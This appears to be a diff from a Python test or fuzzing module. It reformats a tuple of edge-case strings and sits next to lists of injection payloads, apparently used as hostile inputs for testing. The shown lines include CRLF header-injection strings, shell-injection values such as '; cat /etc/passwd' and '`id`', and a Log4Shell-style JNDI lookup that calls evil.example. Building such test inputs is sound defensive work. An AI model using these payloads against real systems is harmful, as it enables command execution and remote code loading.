@@ -94,8 +94,22 @@ HEADERS = (
     "%0d%0aSet-Cookie:%20stolen=1",
     "\u560d\u560aSet-Cookie: stolen=1",
 )
-ODD = ("", " ", "\0", "\0" * 100, "\ud7ff\ue000\ufffd", "-1", "9" * 400, "1e999", "null", "[]", "{}", "\u202e\u2066", "é" * 4000)
-SHELL = ("$(touch /tmp/x)", "`id`", "; cat /etc/passwd", "| id", "\"&&id", "${jndi:ldap://evil.example/x}")
+ODD = (
+    "",
+    " ",
+    "\0",
+    "\0" * 100,
+    "\ud7ff\ue000\ufffd",
+    "-1",
+    "9" * 400,
+    "1e999",
+    "null",
+    "[]",
+    "{}",
+    "\u202e\u2066",
+    "é" * 4000,
+)
+SHELL = ("$(touch /tmp/x)", "`id`", "; cat /etc/passwd", "| id", '"&&id', "${jndi:ldap://evil.example/x}")
 
 
 def naughty() -> tuple[str, ...]:
